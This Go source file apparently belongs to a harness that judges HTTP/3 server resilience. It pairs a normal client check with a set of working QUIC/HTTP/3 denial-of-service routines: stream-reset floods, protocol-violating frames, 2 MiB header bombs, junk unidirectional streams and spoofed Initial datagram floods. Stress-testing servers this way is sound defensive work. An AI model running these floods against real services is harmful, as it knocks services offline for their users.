package judges

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"net/http"
	"strings"
	"time"

	"github.com/quic-go/qpack"
	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/http3"
)

// h3Citizen keeps an HTTP/3 connection.
func (w *town) h3Citizen(config *tls.Config) *citizen {
	tr := &http3.Transport{TLSClientConfig: config.Clone()}
	return &citizen{kind: "HTTP/3", pace: 10 * time.Millisecond, leave: func() { _ = tr.Close() }, ask: func(ctx context.Context) error {
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://"+w.secure+"/", io.NopCloser(strings.NewReader("ping")))
		if err != nil {
			return err
		}
		resp, err := tr.RoundTrip(req)
		if err != nil {
			return err
		}
		if resp.ProtoMajor != 3 {
			return errors.Join(errors.New("no HTTP/3"), goodAnswer(resp))
		}
		return goodAnswer(resp)
	}}
}

// h3Attackers are attacks over QUIC.
var h3Attackers = map[string]func(*weapon){
	"HTTP/3 streams given up": func(w *weapon) {
		head := h3Head("/", 0)
		w.quic(1000, 10, func(c *quic.Conn) bool { return h3Stream(c, head, true) })
	},
	"HTTP/3 garbage": func(w *weapon) {
		// SETTINGS on a stream of requests ends a connection (RFC 9114 7.2.4).
		w.quic(100, 1, func(c *quic.Conn) bool {
			h3Stream(c, []byte{0x04, 0x00}, false)
			select {
			case <-c.Context().Done():
			case <-time.After(2 * time.Second):
			}
			return false
		})
	},
	"HTTP/3 header bombs": func(w *weapon) {
		head := h3Head("/", 2<<20)
		w.quic(20, 1, func(c *quic.Conn) bool { return h3Stream(c, head, false) })
	},
	"HTTP/3 streams without a use": func(w *weapon) {
		w.quic(1500, 10, func(c *quic.Conn) bool {
			ctx, cancel := context.WithTimeout(w.ctx, time.Second)
			defer cancel()
			s, err := c.OpenUniStreamSync(ctx)
			if err != nil {
				return false
			}
			_, err = s.Write([]byte{0x21, 0}) // a type that is reserved for nothing
			s.CancelWrite(0)
			return err == nil
		})
	},
	"datagrams that mean nothing": func(w *weapon) {
		nc, err := net.Dial("udp", w.Secure)
		if err != nil {
			return
		}
		defer nc.Close()
		junk := bytes.Repeat([]byte{0xc3, 0, 0, 0, 1, 8}, 200) // the beginning of an Initial
		n := byte(0)
		w.each(2, 3000, func() {
			n++
			junk[7] = n
			if _, err := nc.Write(junk); err == nil {
				w.hit(1)
			}
		})
	},
}

// h3Head is a HEADERS frame of a request with a field of some size.
func h3Head(path string, size int) []byte {
	var b bytes.Buffer
	enc := qpack.NewEncoder(&b)
	fields := []string{":method", "GET", ":scheme", "https", ":authority", "one.example", ":path", path}
	if size > 0 {
		fields = append(fields, "x-a", strings.Repeat("a", size))
	}
	for i := 0; i < len(fields); i += 2 {
		_ = enc.WriteField(qpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	n := b.Len()
	return append([]byte{0x01, 0x80 | byte(n>>24), byte(n >> 16), byte(n >> 8), byte(n)}, b.Bytes()...)
}

// h3Stream sends bytes on a new stream, which it gives up or ends.
func h3Stream(c *quic.Conn, text []byte, giveUp bool) bool {
	ctx, cancel := context.WithTimeout(c.Context(), time.Second)
	defer cancel()
	s, err := c.OpenStreamSync(ctx)
	if err != nil {
		return false
	}
	_ = s.SetWriteDeadline(time.Now().Add(2 * time.Second))
	_, err = s.Write(text)
	if giveUp {
		s.CancelRead(0x10c)
		s.CancelWrite(0x10c)
		return err == nil
	}
	_ = s.Close()
	go func() { _, _ = io.Copy(io.Discard, s) }()
	return err == nil
}

// quic keeps a QUIC connection, does things on it n at a time at a rate of things
// a second, and connects again when it was ended.
func (w *weapon) quic(rate, n int, do func(c *quic.Conn) bool) {
	pc, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.ParseIP(w.From)})
	if err != nil {
		return
	}
	defer pc.Close()
	tr := &quic.Transport{Conn: pc}
	defer tr.Close()
	to, err := net.ResolveUDPAddr("udp", w.Secure)
	if err != nil {
		return
	}
	var c *quic.Conn
	w.each(1, max(rate/n, 1), func() {
		if c == nil {
			ctx, cancel := context.WithTimeout(w.ctx, 5*time.Second)
			defer cancel()
			c, err = tr.Dial(ctx, to, &tls.Config{InsecureSkipVerify: true, ServerName: "one.example", NextProtos: []string{"h3"}}, nil)
			if err != nil {
				c = nil
				return
			}
			if s, err := c.OpenUniStream(); err == nil {
				_, _ = s.Write([]byte{0x00, 0x04, 0x00}) // the control stream, SETTINGS
			}
		}
		for range n {
			w.hit(1)
			if !do(c) {
				_ = c.CloseWithError(0x100, "")
				c = nil
				return
			}
		}
	})
	if c != nil {
		_ = c.CloseWithError(0x100, "")
	}
}
